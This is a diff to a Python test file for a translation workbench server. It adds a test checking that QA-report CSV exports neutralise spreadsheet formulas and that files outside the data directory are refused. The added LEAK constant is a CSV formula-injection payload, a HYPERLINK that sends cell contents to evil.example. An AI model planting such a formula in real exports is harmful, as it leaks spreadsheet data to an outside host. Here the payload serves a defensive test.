@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import time
 import uuid
@@ -20,6 +21,8 @@ from workbench.db.models import Glossary, JobStatus, TranslationJob, User
 from workbench.server.identity import COOKIE, session_cookie_value
 from workbench.ui.glossaries import export_url
 from workbench.ui.translate import output_url, qa_url
+
+LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
 def client_for(server: Server, email: str) -> httpx.Client:
@@ -75,7 +78,7 @@ def test_job_files_are_only_for_their_owner_and_admins(server: Server) -> None:
             status=JobStatus.COMPLETED,
             outputs=[{"input": "/etc/hostname", "output": "/etc/hostname"}],
             qa_report=[
-                {"segment": 0, "source": "a", "translation": "b", "term": "a", "expected": "c"}
+                {"segment": 0, "source": "a", "translation": LEAK, "term": "a", "expected": "c"}
             ],
         )
         session.add(job)
@@ -89,9 +92,10 @@ def test_job_files_are_only_for_their_owner_and_admins(server: Server) -> None:
     with client_for(server, server.accounts.admin_email) as admin:
         report = admin.get(qa_url(job_id))
         assert report.status_code == 200
-        assert report.content.decode("utf-8-sig").splitlines()[0] == (
-            "segment,source,translation,term,expected"
-        )
+        lines = report.content.decode("utf-8-sig").splitlines()
+        assert lines[0] == "segment,source,translation,term,expected"
+        # A provider's reply that is a formula arrives as text a spreadsheet will not run.
+        assert next(csv.reader(lines[1:])) == ["0", "a", "'" + LEAK, "a", "c"]
         # a file outside the data dir is never served, whoever asks
         assert admin.get(output_url(job_id, 0)).status_code == 404
         assert admin.get(output_url(job_id, 7)).status_code == 404
